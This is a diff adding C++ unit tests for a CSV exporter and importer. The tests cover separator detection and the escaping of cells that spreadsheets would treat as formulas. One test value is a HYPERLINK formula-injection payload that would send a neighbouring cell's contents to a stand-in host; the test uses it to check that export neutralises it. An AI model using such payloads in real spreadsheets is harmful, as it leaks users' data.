@@ -6,8 +6,9 @@
 #include <string>
 #include <vector>
 
-#include "tools/calsvar/csv_table.h"
-#include "tools/calsvar/import_table.h"
+#include "tools/calsvar/tables/csv_export.h"
+#include "tools/calsvar/tables/csv_table.h"
+#include "tools/calsvar/tables/import_table.h"
 
 namespace {
 
@@ -68,6 +69,71 @@ TEST(CsvRoundTrip, CellsComeBackAsTheyWent) {
   ASSERT_EQ(table.rows.size(), 1u);
   ASSERT_EQ(table.rows[0].values.size(), 6u);  // the empty cell asks for nothing
   for (std::size_t i = 0; i < 6; ++i) EXPECT_EQ(table.rows[0].values[i].text, cells[i + 1]);
+}
+
+// What a spreadsheet would take for a formula is written as text, and
+// comes back byte for byte.
+TEST(CsvRoundTrip, FormulaCellsAreTextInASpreadsheetAndExactWhenReadBack) {
+  const struct {
+    const char16_t* value;
+    const char* cell;  // as get --csv writes it, with its separator before it
+  } cases[] = {
+      {u"=HYPERLINK(\"http://x.example/?\"&B1,\"open\")", ",\"'=HYPERLINK(\"\"http://x.example/?\"\"&B1,\"\"open\"\")\""},
+      {u"+1", ",'+1"},
+      {u"-5", ",'-5"},
+      {u"@SUM(A1)", ",'@SUM(A1)"},
+      {u"\tx", ",'\tx"},
+      {u"\rx", ",\"'\rx\""},
+      {u"'quoted'", ",''quoted'"},
+      {u"''", ",'''"},
+      {u"a=b-c", ",a=b-c"},
+      {u" =x", ", =x"},
+  };
+  for (const auto& c : cases) {
+    const std::string row = CsvRow({u"x.cal", c.value});
+    EXPECT_EQ(row, std::string("x.cal") + c.cell + "\r\n");
+    const auto table = ReadImportTable("file,notes\r\n" + row, u"");
+    ASSERT_EQ(table.rows.size(), 1u) << table.error;
+    ASSERT_EQ(table.rows[0].values.size(), 1u);
+    EXPECT_EQ(table.rows[0].values[0].text, c.value);
+  }
+}
+
+// Spreadsheets in German or French locales separate cells by ";", and
+// tab-separated text by tabs: the header line tells which.
+TEST(ImportTable, TakesTheSeparatorThatGivesAFileColumn) {
+  const struct {
+    const char* bytes;
+    char16_t separator;
+    const char16_t* notes;
+  } cases[] = {
+      {"file,notes\r\na.cal,\"x;y\"\r\n", u',', u"x;y"},
+      {"file;notes\r\na.cal;x,y\r\n", u';', u"x,y"},
+      {"\"file\";\"notes\"\r\n\"a.cal\";\"x;y\"\r\n", u';', u"x;y"},  // every cell quoted
+      {"File\tNotes\na.cal\t'=1;2\n", u'\t', u"=1;2"},
+      {"notes;file\r\n\"a,b\";a.cal\r\n", u';', u"a,b"},
+  };
+  for (const auto& c : cases) {
+    const auto table = ReadImportTable(c.bytes, u"");
+    ASSERT_EQ(table.error, "") << c.bytes;
+    EXPECT_EQ(table.separator, c.separator) << c.bytes;
+    ASSERT_EQ(table.rows.size(), 1u);
+    EXPECT_EQ(table.rows[0].file, u"a.cal");
+    ASSERT_EQ(table.rows[0].values.size(), 1u);
+    EXPECT_EQ(table.rows[0].values[0].text, c.notes);
+  }
+  EXPECT_EQ(CsvRow({u"a;b", u"c,d", u"=e"}, u';'), "\"a;b\";c,d;'=e\r\n");
+  EXPECT_EQ(ReadImportTable("name;notes\r\n", u"").error, "line 1: the table has no \"file\" column");
+}
+
+TEST(CsvExport, OneColumnPerNameInOrderOfFirstAppearance) {
+  calsvar::CsvExport table;
+  table.Add(u"/d/a.cal", {{u"srcdocid", u"A"}, {u"notes", u"-x"}});
+  table.Add(u"/d/picture.cal", {});
+  table.Add(u"/d/b.cal", {{u"notes", u"n"}, {u"rtype", u"1"}});
+  EXPECT_EQ(table.Text({}, u';'),
+            "file;srcdocid;notes;rtype\r\n/d/a.cal;A;'-x;\r\n/d/picture.cal;;;\r\n/d/b.cal;;n;1\r\n");
+  EXPECT_EQ(table.Text({u"rtype"}, u','), "file,rtype\r\n/d/a.cal,\r\n/d/picture.cal,\r\n/d/b.cal,1\r\n");
 }
 
 TEST(ImportTable, TakesCsvAsGetWritesItWithEmptyCellsLeftAlone) {
